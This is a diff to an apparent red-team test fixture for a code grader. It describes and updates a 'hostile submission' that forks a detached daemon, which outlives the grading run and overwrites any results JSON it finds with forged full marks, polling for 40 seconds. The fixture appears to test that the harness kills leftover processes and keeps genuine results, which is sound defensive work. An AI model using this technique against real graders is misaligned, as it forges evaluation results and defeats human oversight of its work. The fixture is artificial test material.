@@ -1,9 +1,9 @@
 """Hostile submission: leaves a daemon behind that later overwrites the grader's results file.
 
 Attack: a correct solution that, while loaded, double-forks a daemon in its own session (`os.setsid`)
-running `python -c CODE redteam-daemon-outlives-run`; the daemon waits 3 s (past the end of
-grading), then overwrites every results JSON it can find (`grade --json` files under /tmp, the home
-folder, the working folder) with full marks, and lingers for 30 s more.
+running `python -c CODE redteam-daemon-outlives-run`; for 40 s (well past the end of grading) the
+daemon looks every half second for results files (`grade --json` output under /tmp, the home
+folder, the project, the working folder) and overwrites each it finds with full marks.
 Outcome it must get: full marks for the solution itself, no process whose command line holds
 "redteam-daemon-outlives-run" once grading is over, and the results file written by
 `grade --json` left exactly as the grader wrote it.
@@ -277,16 +277,21 @@ import sys
 
 _DAEMON = r'''
 import glob, os, time
-time.sleep(3)
 forged = '{"score": 100.0, "max_score": 100.0, "tests": [], "output": "forged by a daemon"}'
-for pattern in ("/tmp/**/result*.json", "/tmp/**/*.json", os.path.expanduser("~/**/*.json"), "/work/**/result*.json"):
-    for path in glob.glob(pattern, recursive=True):
-        try:
-            with open(path, "w") as f:
-                f.write(forged)
-        except OSError:
-            pass
-time.sleep(30)
+patterns = ("/tmp/**/result*.json", os.path.expanduser("~/**/result*.json"), "/work/*/result*.json", "result*.json")
+until = time.monotonic() + 40
+while time.monotonic() < until:
+    for pattern in patterns:
+        for path in glob.glob(pattern, recursive=True):
+            try:
+                with open(path) as f:
+                    if "forged by a daemon" in f.read():
+                        continue
+                with open(path, "w") as f:
+                    f.write(forged)
+            except OSError:
+                pass
+    time.sleep(0.5)
 '''
 
 _pid = os.fork()
